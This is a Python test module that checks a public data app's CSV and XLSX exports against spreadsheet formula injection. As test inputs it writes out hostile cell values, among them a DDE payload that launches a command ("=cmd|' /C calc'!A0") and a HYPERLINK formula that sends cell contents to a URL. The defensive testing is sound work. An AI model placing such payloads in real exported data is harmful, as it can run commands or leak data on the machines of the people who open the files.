"""Public data that must not harm its readers or break: the Ergebnismatrix as a
spreadsheet (formula injection), hostile listing, search and API parameters
(never a server error), and tallies of effects that count adopted decisions only.
"""

import datetime
import io

from openpyxl import load_workbook

from integration_check.models import FieldOfAction, Measure, MeasureStatusUpdate
from tests.test_public_progress import CONCEPT, DemoTestCase, csv_rows

# --- 5. formula injection in the Ergebnismatrix ------------------------------------------

#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


class TestErgebnismatrixWithoutFormulas(DemoTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        # Measures 1.1 ... 2.1 get a title and a reason starting with each dangerous
        # character; field 1's title starts with "=".
        cls.expected = {}
        measures = Measure.objects.filter(locale__language_code="de").order_by("sort_order")
        for char, measure in zip(DANGEROUS, measures, strict=False):
            measure.title = f'{char}HYPERLINK("http://example.org/?x="&A1;"Maßnahme")'
            measure.save()
            update = measure.status_updates.order_by("-date", "-sort_order").first()
            update.reason = f"{char}1+2 Begründung"
            update.save()
            cls.expected[measure.number] = (measure.title, update.reason, update.date)
        field = FieldOfAction.objects.get(locale__language_code="de", number="1")
        field.title = "=cmd|' /C calc'!A0"
        field.save()

    def test_csv_cells_that_would_be_formulas_start_with_a_quote(self):
        rows = {row[1]: row for row in csv_rows(self.fetch(CONCEPT + "ergebnismatrix/csv/"))}
        self.assertEqual(len(self.expected), len(DANGEROUS))
        for number, (title, reason, date) in self.expected.items():
            with self.subTest(number=number, start=repr(title[0])):
                self.assertEqual(rows[number][2], "'" + title)
                self.assertEqual(rows[number][5], "'" + reason)
                self.assertEqual(rows[number][4], date.isoformat())
        self.assertEqual(rows["1.1"][0], "'=cmd|' /C calc'!A0")
        # Harmless text stays as it was.
        self.assertEqual(rows["3.3"][2:4], ["Erste-Hilfe-Kurse", "verschoben"])

    def test_a_number_stays_a_number_in_the_csv(self):
        update = MeasureStatusUpdate.objects.filter(measure__number="3.3").latest("date")
        update.reason = "-5"
        update.save()
        rows = {row[1]: row for row in csv_rows(self.fetch(CONCEPT + "ergebnismatrix/csv/"))}
        self.assertEqual(rows["3.3"][5], "-5")

    def test_xlsx_cells_are_text_and_dates_are_dates(self):
        response = self.fetch(CONCEPT + "ergebnismatrix/xlsx/")
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
        for number, (title, reason, date) in self.expected.items():
            with self.subTest(number=number, start=repr(title[0])):
                for cell, original in ((rows[number][2], title), (rows[number][5], reason)):
                    self.assertEqual(cell.data_type, "s")
                    # XML, and so XLSX, reads a carriage return as a line feed.
                    self.assertEqual(cell.value, original.replace("\r", "\n"))
                self.assertTrue(rows[number][4].is_date)
                self.assertEqual(rows[number][4].value.date(), date)
        self.assertEqual(rows["1.1"][0].data_type, "s")
        self.assertEqual(rows["1.1"][0].value, "=cmd|' /C calc'!A0")
        # Measure 3.3: postponed on 2020-03-20, start planned for 2021-09-01.
        stated, planned = rows["3.3"][4], rows["3.3"][6]
        self.assertTrue(stated.is_date and planned.is_date)
        self.assertEqual(
            (stated.value.date(), planned.value.date()),
            (datetime.date(2020, 3, 20), datetime.date(2021, 9, 1)),
        )
        self.assertEqual(stated.number_format, "yyyy-mm-dd")
